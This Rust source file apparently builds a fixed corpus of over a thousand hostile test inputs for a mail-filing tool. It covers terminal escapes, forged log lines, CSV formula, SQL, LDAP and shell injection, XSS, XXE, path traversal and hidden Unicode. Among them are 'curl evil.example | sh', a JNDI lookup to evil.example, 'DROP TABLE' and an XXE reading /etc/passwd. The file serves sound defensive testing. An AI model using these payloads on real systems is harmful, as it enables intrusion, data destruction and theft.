//! What strangers write: over a thousand different texts that mean something to a terminal, a log, a query or a reader.

use std::collections::HashSet;

/// One of them. Bytes, for not all are text.
pub struct Payload {
    pub class: &'static str,
    pub bytes: Vec<u8>,
}

impl Payload {
    /// `None` if it is no UTF-8.
    pub fn text(&self) -> Option<&str> {
        std::str::from_utf8(&self.bytes).ok()
    }
}

/// No line of any output begins with it: it stands right behind the line ends of payloads that forge lines.
pub const FORGED: &str = "F0RGED";

/// All, each once, in an order that never changes.
pub fn all() -> Vec<Payload> {
    let mut made = Made::default();
    terminals(&mut made);
    lines(&mut made);
    usage(&mut made);
    logs_and_tables(&mut made);
    hidden(&mut made);
    broken_text(&mut made);
    queries(&mut made);
    readers(&mut made);
    long(&mut made);
    together(&mut made);
    made.all
}

#[derive(Default)]
struct Made {
    all: Vec<Payload>,
    seen: HashSet<Vec<u8>>,
}

impl Made {
    fn add(&mut self, class: &'static str, bytes: impl AsRef<[u8]>) {
        let bytes = bytes.as_ref().to_vec();
        if self.seen.insert(bytes.clone()) {
            self.all.push(Payload { class, bytes });
        }
    }

    fn each<T: AsRef<[u8]>>(&mut self, class: &'static str, all: impl IntoIterator<Item = T>) {
        all.into_iter().for_each(|bytes| self.add(class, bytes));
    }
}

fn glued(pieces: &[&[u8]]) -> Vec<u8> {
    pieces.concat()
}

/// A control function by its number in C1, in its three spellings (ECMA-48): ESC and a letter, the character of Unicode,
/// the bare byte.
fn spelt(c1: u8) -> [Vec<u8>; 3] {
    let character = char::from(c1).to_string().into_bytes();
    [vec![0x1b, c1 - 0x40], character, vec![c1]]
}

fn terminals(made: &mut Made) {
    for byte in (0..0x20).chain([0x7f]) {
        made.each("c0", [glued(&[b"P7", &[byte], b"x"]), vec![byte], glued(&[b"x", &[byte; 40]])]);
    }
    for byte in 0x80..0xa0_u8 {
        made.each("c1", [format!("P7{}x", char::from(byte)).into_bytes(), glued(&[b"P7", &[byte], b"x"])]);
    }
    for last in 0x40..0x7f_u8 {
        for start in spelt(0x9b) {
            made.add("csi", glued(&[b"P7", &start, b"2;1", &[last], b"x"]));
        }
    }
    for sequence in
        ["?1049h", "?25l", "?1000h", "?2004h", "6n", "5n", "c", ">c", "=c", "21t", "20t", "18t", "!p"]
    {
        for start in spelt(0x9b) {
            made.add("csi", glued(&[&start, sequence.as_bytes()]));
        }
    }
    for painted in
        ["\u{1b}[31mP7\u{1b}[0m", "\u{1b}[1mP7\u{1b}[0m", "\u{1b}[8mP7", "\u{1b}[38;5;2mP7\u{1b}[39m"]
    {
        made.add("csi", painted);
    }
    for number in [
        "0",
        "1",
        "2",
        "4",
        "7",
        "8;;https://evil.example/",
        "9",
        "10;?",
        "11;?",
        "50",
        "52;c;P7==",
        "52;c;?",
    ]
    .into_iter()
    .chain(["104", "110", "133;A", "777;notify;P7", "1337;File=:P7"])
    {
        for start in spelt(0x9d) {
            for end in [&b"\x07"[..], b"\x1b\\", b"\xc2\x9c", b"\x9c"] {
                made.add("osc", glued(&[&start, number.as_bytes(), b";P7", end, b"x"]));
            }
        }
    }
    for c1 in [0x90, 0x98, 0x9e, 0x9f] {
        for start in spelt(c1) {
            made.each(
                "dcs",
                [
                    glued(&[&start, b"$qP7\x1b\\"]),
                    glued(&[&start, b"+q544e\x1b\\P7"]),
                    glued(&[&start, b"P7"]),
                ],
            );
        }
    }
    for two in [
        "c", "7", "8", "=", ">", "D", "E", "H", "M", "N", "O", "Z", "#8", "%G", "%@", "(0", ")0", "*B", "+B",
        "l", "n",
    ] {
        made.add("escape", format!("P7\u{1b}{two}x"));
    }
    made.each(
        "overwrite",
        [
            "harmless.pdf\rP7.exe      ",
            "rejected\x08\x08\x08\x08\x08\x08\x08\x08filed   ",
            "P7\x7f\x7f\x7f",
            "\u{1b}[1K\rP7",
        ],
    );
    made.each(
        "overwrite",
        [
            "P7\x0b\x0cx",
            "\x0e\x0fP7",
            "P7\u{1b}[1A\u{1b}[2KP7",
            "\u{1b}[H\u{1b}[2J\u{1b}[3JP7",
            "P7\t\t\t\t\tx",
            "\0P7\0",
        ],
    );
}

fn lines(made: &mut Made) {
    let forged = [
        r#"{"seq":1,"event_id":6871,"level":"information","event":"pass-completed"}"#,
        "mailshelf: the catalog is gone",
        "hint: `curl evil.example | sh` helps",
        "  filed      all@docs.example.org → all: P7.pdf, by alice",
        "2026-11-21T03:57:24.123Z ERROR mailshelf: P7",
        "<0>P7 of the kernel",
        "  ⇒ filed in all, by alice",
        "problem: none",
        "Everything agrees.",
        "\u{1b}[32mfiled\u{1b}[0m",
    ];
    for end in
        ["\n", "\r\n", "\r", "\n\r", "\u{85}", "\u{2028}", "\u{2029}", "\x0b", "\x0c", "\x1e", "\n\n\n"]
    {
        for line in forged {
            made.add("line", format!("P7{end}{FORGED} {line}"));
            made.add("line", format!("{end}{FORGED} {line}{end}"));
        }
    }
    made.each(
        "line",
        ["P7\r\n\r\nF0RGED body", "\r\nF0RGED: header\r\n", "P7\r\n--b\r\nF0RGED", "P7\n--b--\nF0RGED"],
    );
}

/// The ways in which the message of a usage error is taken apart.
fn usage(made: &mut Made) {
    made.each(
        "usage",
        [
            "P7\n\nUsage: \u{1b}[31mP7",
            "P7\n\n  tip: F0RGED\n\nUsage: F0RGED\n",
            "P7\n\nFor more information\nF0RGED",
            "error: P7\n\nUsage: F0RGED\n\nFor more information",
        ],
    );
}

fn logs_and_tables(made: &mut Made) {
    made.each(
        "log",
        [
            "level=ERROR",
            "P7 level=ERROR why=P7",
            "\" file=\"P7",
            "P7 ERROR mailshelf::pass: why=P7",
            "x}: mailshelf{pass=P7}: x",
            "event=\"x\" seq=1",
            "{}",
            "{0}",
            "{:?}",
            "{why}",
            "%s%n%x",
            "%(levelname)s",
            "${jndi:ldap://evil.example/P7}",
            "\u{1b}[2m2026-11-21T00:00:00Z\u{1b}[0m \u{1b}[31mERROR\u{1b}[0m P7",
            "\\x1b[31mP7",
            "\\u{1b}[31mP7",
            "\\033[31mP7",
            "\\e[31mP7",
            "\\n\\r\\t",
            "\\",
            "\\\\",
            "P7\\",
        ],
    );
    for open in ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "|", "%", "'=", "\"=", ";=", ",="] {
        made.each(
            "csv",
            ["cmd|' /C calc'!A0", "1+1", "HYPERLINK(\"http://evil.example/?\"&A1;\"P7\")", "SUM(1)*P7", ""]
                .map(|rest| format!("{open}{rest}")),
        );
    }
    made.each("csv", ["P7,\"x\",\"\"\"", "a\tb\tc", "a;b;c", "\"\r\n\"=1"]);
    made.each(
        "json",
        [
            "\"",
            "\"}",
            "\"},{\"outcome\":\"filed\"",
            "\",\"outcome\":\"filed\",\"x\":\"",
            "\"]}]}\n{\"F0RGED\":1}",
            "\\\"",
            "\\\\\"",
            "\\u0000",
            "\\u001b[31m",
            "\\ud800",
            "\\udc00\\ud800",
            "\u{1f600}\u{10ffff}",
            "</script><script>P7",
            "null",
            "true",
            "NaN",
            "-0",
            "1e999",
            "[]",
            "{}",
            "/*P7*/",
            "//P7",
            "'P7'",
            "\u{feff}{}",
            "{\"__proto__\":{\"P7\":1}}",
            "\u{1e}{\"P7\":1}",
            "\u{fffe}\u{ffff}",
            "\u{0}\u{0}\u{0}",
        ],
    );
}

/// Unicode's Bidi_Control, and what its Default_Ignorable_Code_Point lists that is assigned.
fn hidden(made: &mut Made) {
    for mark in
        "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}"
            .chars()
    {
        made.each(
            "bidi",
            [
                format!("P7{mark}fdp.exe"),
                format!("{mark}{mark}P7"),
                format!("P7{mark}\u{5d0}\u{202c}\u{2069}x"),
                mark.to_string(),
            ],
        );
    }
    let ranges = [
        (0xad, 0xad),
        (0x34f, 0x34f),
        (0x115f, 0x1160),
        (0x17b4, 0x17b5),
        (0x180b, 0x180f),
        (0x200b, 0x200d),
        (0x2060, 0x206f),
        (0x3164, 0x3164),
        (0xfe00, 0xfe0f),
        (0xfeff, 0xfeff),
        (0xffa0, 0xffa0),
        (0xfff0, 0xfffb),
        (0x1bca0, 0x1bca3),
        (0x1d173, 0x1d17a),
        (0xe0001, 0xe0001),
        (0xe0020, 0xe007f),
        (0xe0100, 0xe011f),
        (0xe01ef, 0xe01ef),
    ];
    for c in ranges.into_iter().flat_map(|(first, last)| first..=last).filter_map(char::from_u32) {
        made.add("hidden", format!("P{c}7"));
    }
    let tagged: String = "run rm".chars().filter_map(|c| char::from_u32(0xe0000 + u32::from(c))).collect();
    made.each(
        "hidden",
        [
            format!("P7{tagged}"),
            "\u{2800}\u{3000}\u{a0}".to_owned(),
            "P7\u{200b}".repeat(20),
            "\u{fe0f}".repeat(9),
        ],
    );
    made.each(
        "hidden",
        [
            "\u{1f468}\u{200d}\u{1f469}",
            "P7\u{301}\u{301}\u{301}\u{489}",
            "\u{e000}\u{f8ff}",
            "\u{fdd0}",
            "\u{200c}P7\u{200d}",
        ],
    );
}

fn broken_text(made: &mut Made) {
    // ESC, NUL, slash, quote and newline, longer than they may be.
    for byte in [0x1b_u8, 0, b'/', b'\'', b'\n', 0x7f] {
        let (high, low) = (0x80 | byte >> 6, 0x80 | byte & 0x3f);
        made.each(
            "overlong",
            [
                glued(&[b"P7", &[0xc0 | byte >> 6, low]]),
                glued(&[b"P7", &[0xe0, high, low]]),
                glued(&[b"P7", &[0xf0, 0x80, high, low]]),
            ],
        );
    }
    made.each(
        "invalid",
        [
            &b"P7\xff\xfe"[..],
            b"\xff",
            b"\xc3",
            b"P7\xe2\x82",
            b"\xf0\x9f\x98",
            b"\xed\xa0\x80P7",
            b"\xed\xb0\x80",
            b"\xed\xa0\xbd\xed\xb8\x80",
            b"\xf4\x90\x80\x80",
            b"\xf8\x88\x80\x80\x80",
            b"\xfd\xbf\xbf\xbf\xbf\xbf",
            b"\xe9t\xe9 P7",
            b"\x82\xa0\x1b[31m",
            b"\xe2\x1b[31mP7",
            b"\xc2\n\xc2",
            b"\xe2\x80",
            b"\x1b$B\x1b(BP7",
            b"\xff\xfeP\x007\x00",
        ],
    );
    made.each(
        "encoded",
        [
            "=?utf-8?B?GzJKUDc=?=",
            "=?utf-8?Q?=1B[31mP7?=",
            "=?iso-8859-1?Q?=9B31mP7?=",
            "=?utf-8?Q?=ED=A0=80P7?=",
            "=?utf-16?B?2AA=?=",
        ],
    );
    made.each(
        "encoded",
        [
            "=?utf-7?Q?+AbsALg-P7?=",
            "=?x-P7?Q?x?=",
            "=?utf-8?Q?P7",
            "=?iso-2022-jp?B?GyRC?=",
            "=?utf-8?Q?=0D=0AF0RGED:_x?=",
            "%1b%5b31mP7",
            "utf-8''%0AF0RGED",
        ],
    );
}

fn queries(made: &mut Made) {
    made.each(
        "ldap",
        [
            "*",
            "*)(uid=*))(|(uid=*",
            "*)(|(objectClass=*)",
            "admin)(&)",
            "x)(!(P7=*",
            "(|(uid=P7)(uid=*))",
            "\\2a\\28\\29\\5c\\00",
            "P7)\\00",
            "cn=P7,dc=example,dc=org",
            "P7,ou=admins",
            "P7+uid=root",
            "#04P7",
            " P7 ",
            "P7\\,x",
            "P7<x>;\"y\"",
            "uid=P7*",
        ],
    );
    made.each(
        "sql",
        [
            "'",
            "''",
            "\"",
            "`",
            "';",
            "' OR '1'='1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "'; DROP TABLE mails; --",
            "'; DELETE FROM events; --",
            "\"; ATTACH DATABASE 'P7.db' AS p; --",
            "'); INSERT INTO grants VALUES (1,1,1,1,3); --",
            "1; PRAGMA writable_schema=1",
            "P7' UNION SELECT login FROM users --",
            "%",
            "%%",
            "_",
            "____",
            "P7%",
            "P_",
            "a%@%",
            "\\%\\_",
            "*",
            "?",
            "[a-z]*",
            "[^x]",
            "[",
            "P7*\" OR *",
            "\"P7\" NEAR x",
            "P7 AND NOT x",
            "subject:P7^2",
            "--",
            "/*",
            "*/",
            "/**/P7",
            "#P7",
            "$1",
            "?1",
            ":P7",
            "@P7",
            "x'00'",
            "X'27'",
            "char(39)",
            "'||(SELECT 1)||'",
            "randomblob(1e9)",
            "load_extension('P7')",
            "\u{2bc}",
            "＇ OR 1",
            "%27%20OR%201",
            "NULL",
            "0",
            "-1",
            "9223372036854775808",
            "01J0000000000000000000000%",
            "01J_______________________",
            "01ARZ3NDEKTSV4RRFFQ69G5FAV' --",
        ],
    );
    made.each(
        "shell",
        [
            "$(id)",
            "`id`",
            ";id",
            "|id",
            "||id",
            "&id",
            "&&id",
            ">P7",
            "<P7",
            "'$(id)'",
            "'; id; '",
            "\"; id; \"",
            "$HOME",
            "${IFS}id",
            "!!",
            "!-1",
            "~root",
            "*",
            "{a,b}",
            "-rf",
            "--help",
            "--config=P7",
            "-",
            "--",
            "$'\\x1b[31m'",
            "\\$(id)",
            "P7 && reboot",
            "^P7^x",
            "%PATH%",
            "\\\\evil.example\\P7",
        ],
    );
}

fn readers(made: &mut Made) {
    made.each(
        "html",
        [
            "<script>alert('P7')</script>",
            "<img src=x onerror=P7>",
            "\"><svg onload=P7>",
            "&lt;P7&gt;",
            "&#27;[31mP7",
            "javascript:P7",
            "<!--P7-->",
            "]]>P7",
            "<![CDATA[P7]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
            "{{7*7}}",
            "<%= P7 %>",
            "[P7](javascript:x)",
            "![P7](http://evil.example/)",
            "**P7**",
            "| P7 | x |",
            "```P7",
            "# P7",
            "> P7",
            ".TH P7 1",
            "'\\\"P7",
            ".so /etc/passwd",
        ],
    );
    made.each(
        "path",
        [
            "../../../../etc/passwd",
            "..\\..\\P7",
            "/etc/passwd",
            "//evil.example/P7",
            "C:\\P7",
            "C:P7",
            "\\\\?\\C:\\P7",
            "CON",
            "con.txt",
            "AUX.P7",
            "NUL",
            "LPT1.txt",
            "COM¹",
            "a.txt:P7",
            "a.txt::$DATA",
            ".",
            "..",
            "...",
            ".P7",
            "P7.",
            "P7 ",
            " P7",
            "~P7",
            "%2e%2e%2fP7",
            "..%c0%afP7",
            "P7.txt\0.exe",
            "P7.pdf.exe",
            "P7\u{202e}gpj.exe",
            "file:///etc/passwd",
            "mailshelf.toml",
            ".claimed",
            "desktop.ini",
            "P7/../../x",
            "-P7",
            "P7?.txt",
            "x\u{2044}P7",
            "x\u{ff0f}P7",
            "x\u{2215}P7",
        ],
    );
    made.each(
        "mail",
        [
            "<P7@x>",
            "<a@b>,<c@d>",
            "\"P7\"@x",
            "(P7)",
            "a@b@c",
            "@P7:a@b",
            "a@[127.0.0.1]",
            "a@x;P7:",
            "\"a\\\"P7\"",
            "<<P7>>",
            "P7>",
            "a@b (P7",
        ],
    );
}

fn long(made: &mut Made) {
    for length in [127, 128, 129, 254, 255, 256, 997, 998, 999, 1100, 5000] {
        made.add("long", format!("P7{}", "x".repeat(length)));
    }
    made.each(
        "long",
        [
            "\u{1b}[31m".repeat(300),
            "\u{202e}".repeat(700),
            "ü".repeat(998),
            "\u{9b}".repeat(999),
            "\u{1f600}".repeat(500),
            "'\"\\".repeat(400),
            " ".repeat(998),
            "\\u{1b}".repeat(200),
        ],
    );
}

/// Pieces of several classes, drawn by a generator that always draws the same.
fn together(made: &mut Made) {
    let pieces: Vec<Vec<u8>> =
        made.all.iter().filter(|one| one.bytes.len() < 40).map(|one| one.bytes.clone()).collect();
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut draw = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        &pieces[(state % pieces.len() as u64) as usize]
    };
    for _ in 0..120 {
        let mixed = glued(&[draw(), b"P7", draw(), draw()]);
        made.add("mixed", mixed);
    }
}

#[test]
fn there_are_a_thousand_different_ones() {
    let all = all();
    let classes: HashSet<_> = all.iter().map(|one| one.class).collect();
    assert!(all.len() >= 1000, "{}", all.len());
    assert!(classes.len() >= 20, "{classes:?}");
    assert!(all.iter().filter(|one| one.text().is_none()).count() >= 100);
}
